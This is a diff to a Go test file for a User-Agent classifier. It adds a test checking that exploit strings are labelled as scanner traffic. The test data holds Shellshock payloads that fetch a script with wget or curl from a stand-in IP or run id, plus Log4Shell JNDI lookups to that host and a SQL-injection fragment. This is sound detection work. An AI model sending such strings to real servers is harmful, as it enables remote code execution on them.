@@ -192,7 +192,7 @@ func TestClassifyAgent(t *testing.T) {
 		{"Mozilla/5.0 CK={} (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko", Browser, "IE"}, // a toolbar's mark, the system after it
 		{"Anonymous, " + chromeWin, Suspicious, "Chrome"},
 		{chromeWin + "'+(select 1)+'", Suspicious, "Chrome"},
-		{chromeWin + " ${jndi:ldap://x.example/a}", Suspicious, "Chrome"},
+		{chromeWin + " ${jndi:ldap://x.example/a}", Tool, "Log4Shell"}, // an exploit, not a browser: TestExploitAgent
 		{chromeWin + strings.Repeat(" A", 5*1024), Suspicious, "Chrome"},
 		{chromeWin + "\x1b[31m", Suspicious, "Chrome"},
 
@@ -211,6 +211,31 @@ func TestClassifyAgent(t *testing.T) {
 		}
 		if (got.Reason == "") != (got.Kind == Browser) {
 			t.Errorf("Classify(%.120q): kind %v with reason %q; only browsers have none", tt.ua, got.Kind, got.Reason)
+		}
+	}
+}
+
+// TestExploitAgent: an exploit sent as the User-agent is a scanner's, named
+// by the exploit, not by the downloader in its command.
+func TestExploitAgent(t *testing.T) {
+	tests := []struct{ ua, name string }{
+		{"() { :; }; /bin/bash -c 'wget http://198.51.100.7/x.sh -O /tmp/x.sh'", "Shellshock"},
+		{"() { ignored; }; echo Content-Type: text/plain ; echo ; echo ; /usr/bin/id", "Shellshock"},
+		{" () { :;}; curl http://198.51.100.7/a", "Shellshock"},
+		{"${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/d2dldA==}", "Log4Shell"},
+		{"Mozilla/5.0 ${jndi:ldap://198.51.100.7/a}", "Log4Shell"},
+		{"Mozilla/5.0 ${JNDI:ldap://198.51.100.7/a}", "Log4Shell"},
+	}
+	var c Classifier
+	for _, tt := range tests {
+		got := c.Classify(tt.ua)
+		if got.Kind != Tool || !got.Scanner || got.Name != tt.name {
+			t.Errorf("Classify(%q) = %v %q scanner=%v, want a scanner %q", tt.ua, got.Kind, got.Name, got.Scanner, tt.name)
+		}
+	}
+	for _, ua := range []string{"Wget/1.21.4", "Mozilla/5.0 (X11; Linux x86_64) (){} Gecko/20100101 Firefox/120.0"} {
+		if got := c.Classify(ua); got.Scanner {
+			t.Errorf("Classify(%q) is a scanner %q", ua, got.Name)
 		}
 	}
 }
